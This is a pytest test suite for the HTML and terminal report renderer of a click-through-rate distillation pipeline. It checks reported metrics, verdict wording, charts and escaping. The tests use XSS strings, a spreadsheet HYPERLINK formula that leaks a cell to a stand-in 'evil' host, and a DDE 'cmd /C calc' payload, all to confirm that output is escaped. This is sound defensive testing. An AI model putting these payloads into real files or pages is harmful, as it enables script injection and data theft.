"""The report: says what the numbers say and no more, is one safe file, and survives whatever is missing."""

from __future__ import annotations

import copy
import json
import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from jinja2 import UndefinedError
from rich.console import Console

from ctr_kd.report import render, render_features, render_monitoring, render_proof, render_sweep, summary_table, verdict
from ctr_kd.report.charts import Axis, Series, decimals, line_chart, strip, ticks
from ctr_kd.report.features import figure_texts, headline, quantile_texts, remarks
from ctr_kd.report.findings import Figure, result_rows
from ctr_kd.report.rendering import ENVIRONMENT
from tests.ctr_kd.report import figures
from tests.ctr_kd.report.figures import gap, interval
from tests.programs import HANGS

HOSTILE = "<script>alert('x')</script>\"><img src=x onerror=alert(1)> & \x00\ud800"
VOID = frozenset({"meta", "br", "hr", "link", "img"})  # elements that HTML never closes


@pytest.fixture
def metrics():
    return figures.run_metrics()


@pytest.fixture
def curves():
    return figures.run_curves()


class Page(HTMLParser):
    """Elements, attributes and text of a page; fails on a tag that is not closed."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.open, self.attributes, self.words = [], [], [], []
        self.feed(text)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        if self.open and self.open[-1] != "style":
            self.words.append(data)

    @property
    def text(self):
        return re.sub(r"\s+", " ", " ".join(self.words))


class TestRender:
    def test_contains_the_numbers(self, metrics, curves):
        text = Page(render(metrics, curves)).text
        for shown in ("0.7412", "[0.7392, 0.7432]", "+0.0061", "[+0.0051, +0.0071]", "0.7437", "−0.0025", "0.6012", "300,000", "3,412,345"):
            assert shown in text
        for shown in (
            "0.6543",
            "4,321",
            "13.7 MB",
            "1,203,222",
            "10.34 %",
            "3 min 42 s",
            "1 h 7 min",
            "3.8 GB",
            "9f3c2ab4",
        ):
            assert shown in text
        assert "The gate refused the challenger. The champion is version 4, as before." in text
        assert ">= 0.9" in text and "alpha" in text and "130 row by row" in text

    def test_draws_reliability_before_and_after_calibration(self, metrics, curves):
        assert "Before and after calibration" not in Page(render(metrics, curves)).text
        metrics["models"]["student"]["uncalibrated"] = {"log_loss": 0.4312, "calibration_error": 0.0123, "calibration_ratio": 1.1}
        curves["uncalibrated"] = {"student": [{"predicted": 0.2, "observed": 0.12, "low": 0.1, "high": 0.14, "rows": 50}]}
        text = Page(render(metrics, curves)).text
        assert "Before and after calibration" in text
        assert "Student, before – log loss 0.4312, calib. error 0.0123" in text and "Student, after – log loss 0.4259" in text

    def test_is_one_file_without_requests_or_scripts(self, metrics, curves, tmp_path):
        output = tmp_path / "report.html"
        written = render(metrics, curves, output)
        assert output.read_text("utf-8") == written
        page = Page(written)
        assert not {"script", "img", "iframe", "object", "link", "base", "form"} & set(page.tags)
        assert not [name for name, _ in page.attributes if name in ("src", "href", "srcset") or name.startswith("on")]
        assert "url(" not in written and "@import" not in written and "http:" not in written and "https:" not in written
        assert {"svg", "table", "details"} <= set(page.tags)

    def test_hostile_texts_are_escaped_everywhere(self, metrics, curves):
        hostile = copy.deepcopy(metrics)
        hostile["run"] |= {
            "configuration": HOSTILE,
            "fingerprint": HOSTILE,
            "started": HOSTILE,
            "seconds": {HOSTILE: 3.0, "ingest": HOSTILE},
        }
        hostile["data"][HOSTILE] = HOSTILE
        hostile["models"][HOSTILE] = {"auc": {"value": None, "reason": HOSTILE}, "report": {HOSTILE: {"f1": 0.5, "support": HOSTILE}}}
        hostile["models"][f"teacher/{HOSTILE}"] = {"auc": interval(0.7)}
        hostile["comparisons"][HOSTILE] = {"auc": gap(0.1) | {"reason": HOSTILE}}
        hostile["slices"][f"{HOSTILE}/{HOSTILE}"] = {HOSTILE: {"rows": HOSTILE, "auc": interval(0.6)}}
        hostile["gate"] = {"passed": True, "checks": [{"name": HOSTILE, "bound": HOSTILE, "reason": HOSTILE}], "champion_after": HOSTILE}
        shown = {
            name: {f"{HOSTILE}": points}
            for name, points in (("roc", [[0, 0], [1, 1]]), ("reliability", [{"predicted": 0.1, "observed": 0.1}]))
        }
        shown["learning"] = {f"{HOSTILE}/{HOSTILE}": [{"step": 1, HOSTILE: 0.5}]}
        written = render(hostile, shown)
        page, clean = Page(written), Page(render(metrics, curves))
        assert set(page.tags) <= set(clean.tags)
        assert {name for name, _ in page.attributes} <= {name for name, _ in clean.attributes}
        assert written.count("<script") == 0 and "alert('x')" in page.text
        assert "\x00" not in written
        written.encode("utf-8")

    @pytest.mark.parametrize(
        "name", ['=HYPERLINK("http://evil/?"&A1,"<b>open</b>")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1<img src=x>", "-2+3&#61;"]
    )
    def test_ids_like_formulas_are_text_in_every_table(self, metrics, curves, name):
        hostile = copy.deepcopy(metrics)
        hostile["slices"][f"item/{name}"] = {"student": {"rows": 5, "auc": interval(0.6)}}
        hostile["gate"]["checks"] = [{"name": name, "value": 0.1, "bound": name, "passed": False, "champion": 0.2}]
        hostile["models"]["student"]["report"] = {name: {"precision": 0.5, "recall": 0.5, "f1": 0.5, "support": 9}}
        written = render(hostile, curves)
        page, clean = Page(written), Page(render(metrics, curves))
        assert page.text.count(name) >= 3
        assert set(page.tags) <= set(clean.tags)
        assert {attribute for attribute, _ in page.attributes} <= {attribute for attribute, _ in clean.attributes}
        assert "evil" not in "".join(str(value) for attribute, value in page.attributes if attribute in ("href", "src"))

    def test_hostile_names_never_become_classes(self, metrics):
        hostile = metrics | {"models": {"wide tile": {"auc": interval(0.7)}}}
        classes = {value for name, value in Page(render(hostile)).attributes if name == "class"}
        assert not any("wide tile" in value for value in classes)
        assert "swatch other" in classes

    @pytest.mark.parametrize("missing", ["run", "data", "models", "comparisons", "slices", "gate"])
    def test_any_part_may_be_missing(self, metrics, curves, missing):
        for value in (None, {}):
            Page(render(metrics | {missing: value}, curves))
        Page(render({key: value for key, value in metrics.items() if key != missing}))

    def test_nothing_at_all(self):
        assert "unknown" in Page(render({})).text

    def test_nested_facts_are_folded_and_null_ones_left_out(self, metrics):
        metrics["data"] |= {"candidates": {"by": "popularity"}, "negative_sampling_rate": None}
        text = Page(render(metrics)).text
        assert 'How the rows were made { "candidates": { "by": "popularity" } }' in text
        assert "Negative sampling rate" not in text

    def test_says_what_fine_tuning_cost_the_teacher(self, metrics):
        assert "masked-item" not in render(metrics)
        metrics["models"]["teacher"]["masked_item_accuracy"] = {"before": 0.1031, "after": 0.1014}
        metrics["run"]["configuration"] = {"finetune": {"strategy": "<low>", "rate_ratio": 0.01}}
        text = Page(render(metrics)).text
        assert "Fine-tuning (<low>, ratio 0.01) moved masked-item accuracy from 0.1031 to 0.1014." in text
        metrics["run"]["configuration"] = {"finetune": {"strategy": "freeze", "rate_ratio": 0.01}}
        assert "Fine-tuning (freeze) moved masked-item accuracy" in Page(render(metrics)).text
        metrics["models"]["teacher"]["masked_item_accuracy"]["after"] = None
        assert "masked-item" not in render(metrics)

    def test_shows_what_every_fine_tuning_destroyed(self, metrics):
        assert "What fine-tuning destroyed" not in render(metrics)
        metrics["models"]["teacher"]["fine_tunings"] = figures.fine_tunings()
        text = Page(render(metrics)).text.split("What fine-tuning destroyed")[1]
        lines = [text.index(shown) for shown in ("low_lr, ratio 0.01 this run", "low_lr, ratio 1.0, training.epochs 4", "from_scratch")]
        assert lines == sorted(lines)
        for shown in ("0.1980", "1.0 %", "90.0 %", "0.7712", "0.7699", "5.500", "5.610", "612 sequences"):
            assert shown in text
        assert (
            text.split("Learning curves")[0].split("The pipeline")[0].count("%") == 2
        )  # nothing can be destroyed of what was never learnt
        metrics["models"]["teacher"]["fine_tunings"] = [{"strategy": HOSTILE, "different": {HOSTILE: HOSTILE}, "auc": HOSTILE}]
        page = render(metrics)
        assert "<script" not in page and "alert('x')" in Page(page).text

    def test_before_the_gate(self, metrics):
        assert "has not been put before the gate yet" in Page(render(metrics | {"gate": None})).text

    def test_numbers_that_are_none_do_not_break_it(self, metrics, curves):
        metrics["models"]["student"] = {"auc": float("nan"), "gauc": None, "log_loss": {"value": "high"}, "rows_per_second": float("inf")}
        curves["learning"]["finetune"] = [{"step": 1, "train_loss": float("nan")}, {"step": 2}]
        text = Page(render(metrics, curves)).text
        assert "nan" not in text.lower().replace("finance", "") and "inf" not in re.findall(r"\b\w+\b", text)

    def test_classes(self, metrics):
        report = {"sport": {"precision": 0.9, "recall": 0.8, "f1": 0.847, "support": 321}}
        metrics["models"]["student"]["report"] = report
        text = Page(render(metrics)).text
        assert "By class" in text and "0.847" in text and "321" in text

    def test_undefined_values_come_with_their_reason(self, metrics):
        page = Page(render(metrics))
        assert "Student, Calib. error: there are no rows" in page.text
        assert ("title", "all 77 labels are 0") in page.attributes


class TestImportance:
    def test_the_groups_are_drawn_and_read_aloud(self, metrics):
        assert "What the inputs are worth" not in Page(render(metrics)).text
        metrics["importance"] = figures.importance(["history", "item_age", "hour", "user_gap", "position", HOSTILE])
        written = render(metrics)
        page = Page(written)
        assert "script" not in page.tags and "<script>" not in written
        assert (
            "Permuting all statistics costs the student most, 0.0600 AUC [0.0590, 0.0610] of 0.7412 on 10,000 validation rows; "
            "then comes history (0.0500). Of the 6 inputs 1 costs nothing beyond chance when it alone is permuted." in page.text
        )
        for shown in ("5 inputs", "+0.0125", "[+0.0110, +0.0140]", "−0.0042", "Inputs that tell the same stand in for one another"):
            assert shown in page.text
        assert ("aria-label", "Drop of AUC, hour: 0.0056 [0.0041, 0.0071]") in page.attributes
        assert written.count('<line class="bar"') == 7

    def test_many_groups_are_folded_away(self, metrics):
        metrics["importance"] = figures.importance([f"statistic_{i}" for i in range(25)], "student_alone")
        text = Page(render(metrics)).text
        assert "6 groups of inputs more" in text and "costs the student alone most" in text

    def test_it_claims_no_more_than_the_intervals_allow(self, metrics):
        metrics["importance"] = figures.importance(["history", "hour"])
        for group in metrics["importance"]["groups"].values():
            group["auc"] = gap(0.001, 0.002)
        assert "No group of inputs costs AUC beyond chance when it is permuted, on 10,000 validation rows." in Page(render(metrics)).text
        for group in metrics["importance"]["groups"].values():
            group["auc"] = {"difference": None, "reason": "all 9 labels are 1"}
        metrics["importance"]["auc"] = {"value": None, "reason": "all 9 labels are 1"}
        page = Page(render(metrics))
        assert "What the inputs are worth in AUC is not known: all 9 labels are 1." in page.text
        assert "−0.0167" in page.text


class TestVerdict:
    def said(self, metrics, value, low, high):
        metrics["comparisons"]["student-student_alone"]["auc"] = {"difference": value, "low": low, "high": high, "p_value": 0.5}
        return verdict(metrics)

    def test_gain(self, metrics):
        said = self.said(metrics, 0.0061, 0.0048, 0.0075)
        assert said.effect == "gain"
        assert said.headline == "Distillation gave +0.0061 AUC [+0.0048, +0.0075] over the same student trained alone."
        assert said.remarks[0] == (
            "The student keeps 99.0 % of the teacher's AUC above chance, at 1/200 of its cost "
            "(1/2,308 of it where the teacher scores row by row)."
        )

    def test_how_much_of_the_lead_reached_the_student_is_said_once_it_is_measured(self, metrics):
        before = verdict(metrics)
        said = verdict(metrics | {"transfer_ratio_interval": {"value": 0.707, "low": 0.55, "high": 1.02}})
        phrase = "71 % [55 %, 102 %] of the teacher's lead over the student alone reached the student."
        assert said.remarks[1] == phrase and phrase in said.sentence and said.headline == before.headline
        undefined = {"value": None, "reason": "the teacher's lead over the student alone, +0.0002 [-0.0010, +0.0014], is not above chance"}
        said = verdict(metrics | {"transfer_ratio_interval": undefined})
        assert f"How much of the teacher's lead reached the student is undefined: {undefined['reason']}." in said.remarks
        assert verdict(metrics | {"transfer_ratio_interval": None}) == before  # a file of an earlier release

    def test_loss(self, metrics):
        said = self.said(metrics, -0.0158, -0.02, -0.01)
        assert said.effect == "loss"
        assert said.headline == "Distillation cost 0.0158 AUC [−0.0200, −0.0100]: the same student is better trained alone."

    def test_accuracy_of_no_more_than_the_most_frequent_class_is_called_so(self):
        """A student that tells classes apart better may be right less often than one that always answers the same."""
        report = {"no": {"support": 69}, "yes": {"support": 31}}
        models = {
            "student": {"accuracy": interval(0.68), "report": report},
            "student_alone": {"accuracy": interval(0.69), "report": report},
        }
        pair = {"accuracy": gap(-0.01, width=0.001), "log_loss": gap(-0.005, width=0.003)}
        blunt = verdict({"models": models, "comparisons": {"student-student_alone": pair}})
        assert blunt.effect == "loss"
        assert blunt.remarks[0] == (
            "Accuracy tells little here: 0.6900 of the rows are of the most frequent class, and neither student is above that. "
            "By log loss, of which less is better, the student is −0.0050 [−0.0080, −0.0020] from the student alone."
        )
        assert blunt.remarks[0] in blunt.sentence
        models["student_alone"]["accuracy"] = {"value": 0.75, "low": 0.7, "high": 0.8}
        assert "tells little" not in verdict({"models": models, "comparisons": {"student-student_alone": pair}}).sentence

    def test_no_difference_is_called_none(self, metrics):
        said = self.said(metrics, 0.0021, -0.0004, 0.0046)
        assert said.effect == "even"
        assert said.headline == "Distillation made no difference that is clearly different from zero: +0.0021 AUC [−0.0004, +0.0046]."

    def test_without_an_interval_there_is_no_claim(self, metrics):
        metrics["comparisons"]["student-student_alone"]["auc"] = {"difference": 0.2, "low": None, "high": None, "reason": "one user"}
        said = verdict(metrics)
        assert said.effect == "unknown" and said.headline.endswith("no interval to judge it by (one user).")

    def test_student_above_its_teacher(self, metrics):
        metrics["models"]["student"]["auc"] = interval(0.75)
        metrics["comparisons"]["student-teacher"]["auc"] = gap(0.0063)
        assert verdict(metrics).remarks[0].startswith("The student passes its teacher, AUC 0.7500 against 0.7437, at 1/200 of its cost")
        metrics["comparisons"]["student-teacher"]["auc"] = gap(0.0063, width=0.01)
        assert verdict(metrics).remarks[0].startswith("The student is level with its teacher")

    def test_teacher_at_chance(self, metrics):
        metrics["models"]["teacher"]["auc"] = interval(0.499)
        assert "no better than chance (AUC 0.4990)" in verdict(metrics).remarks[0]

    def test_student_at_chance_keeps_nothing(self, metrics):
        metrics["models"]["student"]["auc"] = interval(0.48)
        assert verdict(metrics).remarks[0] == "The student is no better than chance (AUC 0.4800)."

    def test_slower_student(self, metrics):
        metrics["models"]["student"]["rows_per_second"] = 750.0
        assert "at 2.0 times its cost" in verdict(metrics).remarks[0]

    def test_baselines_that_win_are_named(self, metrics):
        metrics["comparisons"]["student-popularity"] = {"auc": gap(0.0003)}
        remarks = " ".join(verdict(metrics).remarks)
        assert "Popularity cannot be told apart from the student" in remarks

    def beside_trees(self, metrics, difference, **run):
        """The last sentence of the verdict."""
        metrics["comparisons"]["student-boosted_trees"]["auc"] = difference
        metrics["models"]["boosted_trees"]["library"] = "lightgbm"
        metrics["run"]["configuration"] |= run
        said = verdict(metrics)
        last = said.sentence.rpartition(". ")[2]
        assert last in said.remarks
        return last

    def test_a_student_that_beats_the_trees_says_by_how_much(self, metrics):
        assert self.beside_trees(metrics, gap(0.0114)) == "The student beats boosted trees (lightgbm) by +0.0114 [+0.0104, +0.0124] AUC."

    @pytest.mark.parametrize(
        ("difference", "verb", "interval"),
        [
            (gap(-0.004), "is behind", "−0.0040 [−0.0050, −0.0030]"),
            (gap(0.0004), "cannot be told apart from", "+0.0004 [−0.0006, +0.0014]"),
        ],
    )
    def test_a_student_that_does_not_is_not_worth_its_trouble(self, metrics, difference, verb, interval):
        begin = f"The student {verb} boosted trees (lightgbm) ({interval} AUC), so it is not worth its trouble: use those instead, or "
        assert self.beside_trees(metrics, difference) == begin + "let them teach it (distill.teachers)."
        taught = {"distill": {"teachers": {"bert": 0.5, "boosted_trees": 0.5}}}
        changes = "give it more width and epochs (distill.student.width, distill.training.epochs)."
        assert self.beside_trees(metrics, difference, **taught) == begin + changes

    def test_without_an_interval_it_is_open_whether_it_beats_the_trees(self, metrics):
        said = self.beside_trees(metrics, {"difference": 0.2, "low": None, "high": None, "reason": "one user"})
        assert said == "Whether the student beats boosted trees (lightgbm) is open: +0.2000 AUC, without an interval (one user)."

    def test_it_is_what_ships_that_must_beat_the_trees(self, metrics):
        metrics["shipped"] = "student_alone"
        metrics["comparisons"]["student_alone-boosted_trees"] = {"auc": gap(0.005)}
        assert verdict(metrics).sentence.endswith("The student alone beats boosted trees by +0.0050 [+0.0040, +0.0060] AUC.")

    def test_weak_teacher_is_named(self, metrics):
        metrics["comparisons"]["teacher-student_alone"] = {"auc": gap(-0.01)}
        assert any(remark.startswith("The teacher is weaker than the student trained alone") for remark in verdict(metrics).remarks)

    def test_oracle(self, metrics):
        metrics["models"]["oracle"] = {"auc": interval(0.8)}
        assert "the student has 80.4 % of it above chance" in verdict(metrics).remarks[-1]


class TestSummaryTable:
    def text(self, metrics):
        console = Console(width=200, record=True, file=open("/dev/null", "w", encoding="utf-8"))  # noqa: SIM115
        console.print(summary_table(metrics))
        return console.export_text()

    def test_same_rows_as_the_report(self, metrics):
        lines = [line for line in self.text(metrics).splitlines() if line.strip()]
        assert [line.split("  ")[0] for line in lines] == ["Model", "Teacher", "Student", "Student alone", "Boosted trees", "Popularity"]
        assert "0.7412" in lines[2] and "[0.7392, 0.7432]" in lines[2] and "300,000" in lines[2]
        assert [row.title for row in result_rows(metrics)] == [line.split("  ")[0] for line in lines[1:]]

    def test_brackets_in_names_are_no_markup(self):
        assert "[bold]evil" in self.text({"models": {"[bold]evil": {"auc": interval(0.7)}}})

    def test_empty(self):
        assert summary_table({}).row_count == 0


class TestPieces:
    def test_figure_reads_every_form(self):
        assert Figure.of({"value": None, "reason": "one label"}) == Figure(None, reason="one label")
        assert Figure.of({"value": 0.5, "low": 0.4, "high": 0.6}).sign == 1
        assert Figure.of({"difference": -0.1, "low": -0.2, "high": 0.1}, "difference").sign == 0
        assert Figure.of(True).value is None

    def test_whatever_enters_a_template_is_escaped(self):
        written = ENVIRONMENT.from_string('<a title="{{ text }}">{{ text }}</a>').render(text="\"<'&\x00")
        assert written == '<a title="&#34;&lt;&#39;&amp;\ufffd">&#34;&lt;&#39;&amp;\ufffd</a>'

    def test_a_name_that_no_view_holds_is_an_error(self):
        with pytest.raises(UndefinedError, match="absent"):
            ENVIRONMENT.from_string("{{ absent }}").render()

    def test_charts_say_in_words_what_they_draw(self):
        few, many = [(float(x), 0.5 + x / 100) for x in range(3)], [(float(x), abs(x - 20) / 100) for x in range(40)]
        lines = [
            Series("Student", "student", few),
            Series("Teacher", "teacher", many),
            Series("bound", "oracle", [(0.0, 0.65), (40.0, 0.65)]),
        ]
        said = line_chart(lines, Axis("step", (0.0, 40.0)), Axis("", (0.0, 1.0)), label="AUC by step").label
        assert said == (
            "AUC by step. Student: 0.5 at 0, 0.51 at 1, 0.52 at 2. "
            "Teacher: 40 points from 0.2 at 0 to 0.19 at 39, between 0 and 0.2. bound: 0.65 throughout."
        )
        assert strip([("a", "student", Figure(0.7, 0.6, 0.8))], (0.0, 1.0), label="AUC of a").label == "AUC of a: 0.7000 [0.6000, 0.8000]"
        assert strip([("a", "student", Figure(None))], (0.0, 1.0), label="AUC of a").label == "AUC of a: not known"

    def test_labels_of_points_stay_inside_their_chart(self):
        line = Series("Student", "student", [(0.0, 0.5), (1.0, 0.5)], labels=["left", "right"])
        left, right = line_chart([line], Axis("x", (0.0, 1.0)), Axis("y", (0.0, 1.0)), label="chart").lines[0].labels
        assert (left.before, right.before) == (False, True)

    @pytest.mark.parametrize(("domain", "about"), [((0.0, 1.0), 5), ((0.7012, 0.7013), 4), ((-3.0, 4e6), 5), ((5.0, 5.0), 3)])
    def test_ticks_are_inside(self, domain, about):
        values = ticks(domain, about)
        assert 1 <= len(values) <= 2 * about + 2 and all(domain[0] - 1e-9 <= value <= domain[1] + 1e-9 for value in values)
        assert len(set(decimals(values))) == len(values)


def test_report_of_a_real_evaluation(tmp_path):
    """From labels to the page, through JSON as the stages do it."""
    import numpy as np

    from ctr_kd.evaluation.evaluate import click_curves, evaluate_models
    from ctr_kd.evaluation.rows import EvaluationRows, standard_slices

    rng = np.random.default_rng(0)
    logit = rng.normal(-1, 1, 3000)
    label = (rng.random(3000) < 1 / (1 + np.exp(-logit))).astype(int)
    scores = {
        name: 1 / (1 + np.exp(-logit - rng.normal(0, noise, 3000)))
        for name, noise in (("teacher", 0.2), ("student", 0.4), ("student_alone", 1.5))
    }
    rows = EvaluationRows(label, rng.integers(0, 200, 3000), slices=standard_slices(history_length=rng.integers(0, 15, 3000)))
    metrics = json.loads(json.dumps(evaluate_models(rows, scores, replicates=50).to_json()))
    page = Page(render(metrics, json.loads(json.dumps(click_curves(label, scores).to_json())), tmp_path / "report.html"))
    assert f"{metrics['models']['student']['auc']['value']:.4f}" in page.text
    assert "Distillation gave +" in page.text


@pytest.fixture
def proof():
    return figures.proof(HOSTILE)


class TestProof:
    def test_the_verdict_is_one_sentence(self, proof):
        assert verdict(proof).sentence == (
            "Distillation gave +0.0061 AUC [+0.0051, +0.0071] over the same student trained alone; the student keeps 99.0 % of the "
            "teacher's AUC above chance, at 1/200 of its cost (1/2,308 of it where the teacher scores row by row)."
        )
        assert "The distilled student is better in 2 of 2 seeds, by +0.0021 to +0.0101." in verdict(proof).remarks

    def test_it_says_so_when_distillation_does_not_help_and_when_there_is_one_seed(self, proof):
        pair = proof["comparisons"]["student-student_alone"]
        pair["auc"] = gap(-0.0061) | {"seeds": [-0.0061]}
        said = verdict(proof | {"interval_covers": ["users"]})
        assert said.effect == "loss" and said.sentence.startswith("Distillation cost 0.0061 AUC")
        left_out = "they leave out what another student seed or another teacher would give."
        assert f"The 95 % intervals cover users; {left_out}" in said.remarks

    def test_it_says_what_the_intervals_cover_of_one_teacher_and_of_several(self, proof):
        page = Page(render_proof(proof))
        assert "cover users and student seeds; they leave out what another teacher would give." in page.text
        assert "The teacher is the same for all seeds" in page.text and "Teacher by teacher" not in page.text
        page = Page(render_proof(figures.proof_of_two_teachers()))
        assert (
            "The 95 % intervals cover users, student seeds and teacher seeds." in page.text
            and "they leave out" not in page.text.split("What each part gives")[0]
        )
        assert "better in 4 of 4 pairs of a teacher and a student seed, by +0.0002 to +0.0132." in page.text
        assert "are the mean over 2 teachers" in page.text and "All lines are under one teacher" in page.text
        for shown in (
            "Teacher by teacher",
            "0.7471",
            "0.7437",
            "0.7433 to 0.7441",
            "+0.0086",
            "+0.0002 to +0.0070",
            "Standard deviation",
            "0.0048",
        ):
            assert shown in page.text

    def test_one_student_seed_under_each_teacher_has_no_range(self):
        found = figures.proof_of_two_teachers()
        found["models"]["student"]["auc"]["by_teacher"] = [[0.7437], [0.7387]]
        found["comparisons"]["student-student_alone"]["auc"]["by_teacher"] = [[0.0086], [0.0036]]
        shown = Page(render_proof(found)).text.split("Teacher by teacher")[1].split("Standard deviation")[0]
        assert "0.7437" in shown and "+0.0086" in shown and "0.7437 to" not in shown and "+0.0086 to" not in shown

    @pytest.mark.parametrize(
        ("found", "said"),
        [
            ({"seeds": [0.001, 0.009]}, "Over 2 student seeds under this teacher it was +0.0010 to +0.0090"),
            (
                {"seeds": [0.003, 0.007], "by_teacher": [[0.003, 0.007]]},
                "Over 2 student seeds under this teacher it was +0.0030 to +0.0070",
            ),
            ({"seeds": [0.005], "by_teacher": [[0.002], [0.008]]}, "Over 2 teachers with 1 student seed each it was +0.0020 to +0.0080"),
        ],
    )
    def test_a_report_says_over_what_the_gain_was_proven(self, found, said):
        metrics = figures.run_metrics() | {"other_seeds": gap(0.005) | found}
        assert any(said in remark for remark in verdict(metrics).remarks)

    def test_the_page_shows_seeds_and_ablation_and_is_one_safe_file(self, proof):
        written = render_proof(proof)
        page = Page(written)
        for shown in ("Proof of distillation", "0.7402", "+0.0101", "label gate", "+0.0019", "+0.0080", "1 change cannot be made here"):
            assert shown in page.text
        assert "script" not in page.tags and "<script>" not in written and "http" not in written.split("</style>")[1]

    def test_the_page_draws_the_student_by_the_amount_of_its_transfer_set(self, proof):
        assert "by its amount" not in render_proof(proof)
        points = figures.amounts()
        page = Page(render_proof(proof | {"amounts": {"key": "distill.transfer.amount", "points": points}}))
        wanted = (
            "The transfer set by its amount",
            "distill.transfer.amount",
            "80,123",
            "0.7550",
            "0.7450",
            "+0.0090",
            "\N{MINUS SIGN}0.0050",
        )
        for shown in (*wanted, "this configuration"):
            assert shown in page.text
        written = render_proof(proof | {"amounts": {"key": HOSTILE, "points": [{**one, "validation_auc": None} for one in points]}})
        assert "<script>" not in written and "AUC on test by amount" in written and "AUC on validation by amount" not in written

    def test_the_page_has_a_line_for_each_arm_after_the_configured_run(self, proof):
        assert "Arm by arm" not in render_proof(proof)
        found = figures.whole_proof()
        found["arms"][0] |= {"name": HOSTILE, "set": {"distill.student.kind": HOSTILE}}
        written = render_proof(found)
        assert "<script>" not in written
        lines = Page(written).text.split("Arm by arm")[1].split("Seed by seed")[0]
        configured, first, second = (lines.index(name) for name in ("as configured", "distill.student.kind", "distill.alpha: 0.1"))
        assert configured < first < second
        for shown in ("+0.0061", "71 %", "[52 %, 93 %]"):
            assert shown in lines[configured:first]
        for shown in ("0.7330", "+0.0013", "\N{MINUS SIGN}0.0092", "250,000", "1.6 MB"):
            assert shown in lines[first:second]
        assert "its teacher cannot be served" in lines[second:] and "63 %" in lines[second:] and "63 %" not in lines[:second]
        assert "its teacher cannot be served" not in lines[:second] and "A teacher that reads what cannot be served is marked" in lines

    def test_a_privileged_teacher_is_marked_wherever_it_stands(self, proof):
        plain = render_proof(proof)
        assert "(privileged)" not in plain and "what cannot be served" not in plain
        proof["models"]["teacher"]["privileged"] = ["dwell"]
        page = Page(render_proof(proof)).text
        assert "Student \N{MINUS SIGN} teacher (privileged)" in page and "Teacher (privileged)" in page
        said = verdict(proof)
        assert any(
            "The teacher read dwell, which are not there when a student is served" in remark for remark in (said.sentence, *said.remarks)
        )
        assert "of the teacher's lead over the student alone reached" not in " ".join((said.sentence, *said.remarks))


class TestSweep:
    @pytest.fixture
    def sweep(self):
        return figures.sweep(HOSTILE)

    def test_the_page_draws_the_frontier(self, sweep):
        written = render_sweep(sweep)
        page = Page(written)
        assert "The best of 4 students on validation is pooled 32: AUC 0.7720 on test, 31,250 rows/s, 128 kB." in page.text
        for shown in (
            "Worth having for their speed, best first: pooled 32 (0.7720), pooled 8 (0.7480)",
            "83.3 × the teacher",
            "speed, size",
            "The teacher has AUC 0.7437, 1,500 rows/s, 13.7 MB, sharing histories.",
        ):
            assert shown in page.text
        assert page.tags.count("svg") >= 7 and "<script>" not in written

    def test_without_a_teacher_or_a_speed(self, sweep):
        del sweep["teacher"]
        for student in sweep["students"]:
            student["rows_per_second"] = None
        assert "AUC against bytes" in Page(render_sweep(sweep)).text


class TestMonitoring:
    def test_the_page_shows_every_date_and_names_a_broken_bound(self):
        written = render_monitoring(figures.monitor())
        page = Page(written)
        assert "1 bound is broken. 2024-01-07: auc 0.6100, must be >= 0.65." in page.text
        for shown in (
            "Monitoring of scores · globo",
            "2024-01-03",
            "2024-01-08",
            "its clicks are still to come",
            "6,300",
            "broken: auc",
            "v4",
        ):
            assert shown in page.text
        assert page.tags.count("svg") == 5 and "<script>" not in written

    def test_nothing_is_measured_yet(self):
        assert "No scored date has labels yet." in Page(render_monitoring({"dates": []})).text

    def test_the_teacher_on_fresh_clicks_stands_beside_what_it_was_at_registration(self):
        assert "fresh clicks" not in render_monitoring(figures.monitor())
        text = Page(render_monitoring(figures.monitor() | {"fresh": figures.fresh()})).text
        for shown in (
            "AUC on 19,998 rows of 2024-01-07, version 4: teacher 0.7311 [0.7291, 0.7331], student 0.7262",
            "The teacher's AUC has moved by −0.0126 since its registration.",
            "54 % [33 %, 79 %] of the teacher's lead over the student alone reaches the student there (at registration 71 %).",
            "0.7437",
            "−0.0147",
        ):
            assert shown in text
        undefined = {
            "transfer_ratio_interval": {"value": None, "reason": "the lead is nothing"},
            "at_registration": None,
            "privileged": True,
        }
        text = Page(render_monitoring(figures.monitor() | {"fresh": figures.fresh() | undefined | {"teacher": "bert"}})).text
        assert "reaches the student there is undefined: the lead is nothing." in text and "has moved" not in text
        assert "Teacher bert (privileged)" in text
        gone = {"date": "2024-01-07", "model_version": "4", "reason": HOSTILE}
        written = render_monitoring(figures.monitor() | {"fresh": gone})
        assert "<script>" not in written and "The teacher of version 4 is not measured on 2024-01-07" in written


class TestFeatures:
    def test_the_page_says_what_every_column_tells_and_which_has_seen_the_click(self):
        written = render_features(figures.features())
        page = Page(written)
        for shown in (
            "Statistics by themselves · globo",
            "Of 5 columns dwell_seconds tells most by itself: AUC 0.9987 on validation.",
            "LEAK? dwell_seconds: its values alone tell clicks from the rest, AUC 0.9987 on validation.",
            "On validation the other way round than in training: user_gap.",
            "Other values on validation than in training (PSI above 0.25): user_gap.",
            "what item_clicks_1h says",
            "higher values",
            "0.5700",  # of user_gap in training, the way round that it has there
            "20.6 %",
            "12,346",
        ):
            assert shown in page.text
        assert page.tags.count("svg") == 6 and "<script>" not in written
        assert ("title", "none of the 1000 rows has a value") in page.attributes

    def test_a_terminal_has_the_same_words(self):
        leak, telling, turned, constant, empty = figures.features()["features"]
        assert figure_texts(telling) == ["0.7263", "0.7120", "higher", "0", "0.012"]
        assert figure_texts(turned) == ["0.4300", "0.5700", "lower", "20.6 %", "0.638"]
        assert figure_texts(constant) == ["0.5000", "0.5000", "–", "0", "0.012"]
        assert figure_texts(empty) == ["–", "–", "–", "100.0 %", "–"]
        assert quantile_texts(telling, "train") == ["0", "1", "3", "8", "21", "144", "12,346"]
        assert quantile_texts(empty, "train") == ["–"] * 7
        assert remarks({"features": [telling, constant, empty]}) == []
        flat = constant | {"name": "user_clicks", "train": constant["train"] | {"quantiles": telling["train"]["quantiles"]}}
        assert remarks({"features": [flat]})[0].startswith("AUC .5 in both: user_clicks. What all candidates of a request share")
        assert headline({"features": [turned]}).endswith("AUC 0.4300 on validation, the other way round than in training.")
        assert headline({"features": [empty]}) == "Of 1 column none has an AUC on validation: none of the 1000 rows has a value."
        assert len(remarks({"features": [leak, turned]})) == 3

